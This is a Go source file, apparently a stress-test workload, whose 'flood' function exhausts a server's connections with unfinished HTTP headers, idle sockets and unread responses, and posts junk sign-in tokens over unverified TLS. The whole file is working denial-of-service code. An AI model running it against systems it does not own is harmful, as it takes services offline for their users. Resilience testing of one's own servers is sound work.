package workload

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"time"
)

// What flood does to each address: how many connections of each kind it holds at the same time, and the pause before one that ended is
// opened again.
const (
	floodHeaders = 24
	floodSilent  = 48
	floodUnread  = 12
	floodTokens  = 8
	floodPause   = 250 * time.Millisecond
)

// flood attacks servers until it is ended: with headers without an end, silent connections, and answers that it does not read; and with an
// address that begins with https:// with tokens of nobody's. It prints how often every second.
func flood(addresses []string, stdout io.Writer) error {
	var connections, tokens atomic.Int64
	for _, address := range addresses {
		page, secure := strings.CutPrefix(address, "https://")
		for range floodHeaders {
			go again(page, &connections, func(c net.Conn) {
				_, _ = io.WriteString(c, "GET /metrics HTTP/1.1\r\nHost: x\r\n")
				line := "a: " + strings.Repeat("b", 1000) + "\r\n"
				for range 1000 {
					if _, err := io.WriteString(c, line); err != nil {
						return
					}
				}
			})
		}
		for range floodSilent {
			go again(page, &connections, func(c net.Conn) { _, _ = io.Copy(io.Discard, c) })
		}
		for range floodUnread {
			go again(page, &connections, func(c net.Conn) {
				_, _ = io.WriteString(c, "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
				time.Sleep(10 * floodPause)
			})
		}
		for range floodTokens {
			if secure {
				go signIn(address+"/sign-in", &tokens)
			}
		}
	}
	for range time.Tick(time.Second) {
		if _, err := fmt.Fprintf(stdout, "%d connections, %d tokens\n", connections.Load(), tokens.Load()); err != nil {
			return err
		}
	}
	return nil
}

// again opens connections one after the other.
func again(address string, count *atomic.Int64, use func(net.Conn)) {
	for {
		if c, err := net.DialTimeout("tcp", address, 5*time.Second); err == nil {
			count.Add(1)
			use(c)
			_ = c.Close()
		}
		time.Sleep(floodPause)
	}
}

// signIn sends tokens that no API server has issued.
func signIn(address string, count *atomic.Int64) {
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	for i := 0; ; i++ {
		form := strings.NewReader(url.Values{"token": {fmt.Sprint("junk-", i)}}.Encode())
		request, err := http.NewRequestWithContext(context.Background(), http.MethodPost, address, form)
		if err != nil {
			return
		}
		request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if answer, err := client.Do(request); err == nil {
			count.Add(1)
			_ = answer.Body.Close()
		}
		time.Sleep(floodPause)
	}
}
